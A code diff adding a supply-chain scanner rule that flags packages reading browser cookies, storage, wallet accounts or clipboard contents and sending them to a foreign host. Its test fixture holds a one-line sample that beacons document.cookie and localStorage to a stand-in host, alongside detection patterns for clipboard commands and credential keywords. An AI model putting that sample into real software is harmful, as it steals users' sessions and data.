@@ -1,0 +1,83 @@
+import type { Action, Context, Flow, Inspection, Rule } from '../lib/types.ts'
+import { isStranger, placeInWords } from './behaviour/place.ts'
+import type { Place } from './behaviour/place.ts'
+import { findingsOf, isUnasked, leavesFor, sourcesInWords } from './behaviour/sightings.ts'
+import type { Sighting, SightingGroup } from './behaviour/sightings.ts'
+import { severityOf, when } from './finding.ts'
+
+/** What lies in a browser or a clipboard, sent away. */
+export const browserTheft: Rule = {
+  meta: {
+    id: 'browser-theft',
+    title: 'Sends what the browser or clipboard holds away',
+    severity: 'high',
+    description:
+      'On import, or hooked into what a page does, the code reads cookies, storage, typed input, wallet accounts or the ' +
+      'clipboard and sends that to a host that is not its own. Analytics scripts send coarse numbers to the host their ' +
+      'page configured.',
+    references: [
+      'lottie-player 2.0.5 (October 2024)',
+      'Ledger connect-kit 1.1.5 (December 2023)',
+      'GlassWorm (2025-26)',
+    ],
+    blindSpots: ['Values that a page passes to the package itself.'],
+    examples: {
+      flags: [
+        {
+          title: 'an import sends the cookies away',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js':
+              "navigator.sendBeacon('https://cdn-stats.invalid/c', document.cookie + JSON.stringify(localStorage))\n",
+          },
+        },
+      ],
+      passes: [
+        {
+          title: 'a library keeps its settings in storage',
+          files: {
+            'package.json': '{"name":"a","version":"1.0.0","main":"i.js"}',
+            'i.js': "exports.theme = () => localStorage.getItem('theme')\n",
+          },
+        },
+      ],
+    },
+  },
+  check(inspection, context) {
+    const sightings = inspection.flows.flatMap((flow): readonly Sighting[] =>
+      sightingOf(flow, inspection, context),
+    )
+    return findingsOf(sightings, say)
+  },
+}
+
+/** Commands whose output is the clipboard. */
+const clipboard = /\b(?:pbpaste|xclip\b.*-o|xsel\b.*-o|wl-paste|Get-Clipboard|termux-clipboard-get)\b/i
+
+function sightingOf(flow: Flow, inspection: Inspection, context: Context): readonly Sighting[] {
+  const { kind, name } = flow.source
+  const clip = kind === 'clipboard' || (kind === 'command-output' && clipboard.test(name))
+  if (!clip && kind !== 'browser') return []
+  const place = leavesFor(flow, inspection, context)
+  if (place === undefined) return []
+  const action = weigh(flow, place, clip)
+  return action === undefined ? [] : [{ flow, place, action, severity: severityOf(action) }]
+}
+
+function weigh(flow: Flow, place: Place, clip: boolean): Action | undefined {
+  if (!isStranger(place)) return undefined
+  if (place.kind === 'capture' || (clip && isUnasked(flow))) return flow.certain ? 'block' : 'ask'
+  if (isUnasked(flow) && !flow.byCall)
+    return flow.certain && /cookie|prompt|ethereum|solana|credential/i.test(flow.source.name)
+      ? 'block'
+      : 'ask'
+  return /cookie|prompt|ethereum|solana/i.test(flow.source.name) ? 'ask' : undefined
+}
+
+function say(group: SightingGroup): string {
+  const [{ flow, place }] = group
+  return (
+    `${when(flow.phase, flow.byCall)} it reads ${sourcesInWords(group)} and sends that to ${place.host?.shown ?? 'a computed destination'}, ` +
+    `${placeInWords(place)}. Whoever opens a page with it loses what they typed or signed. Do not ship it.`
+  )
+}
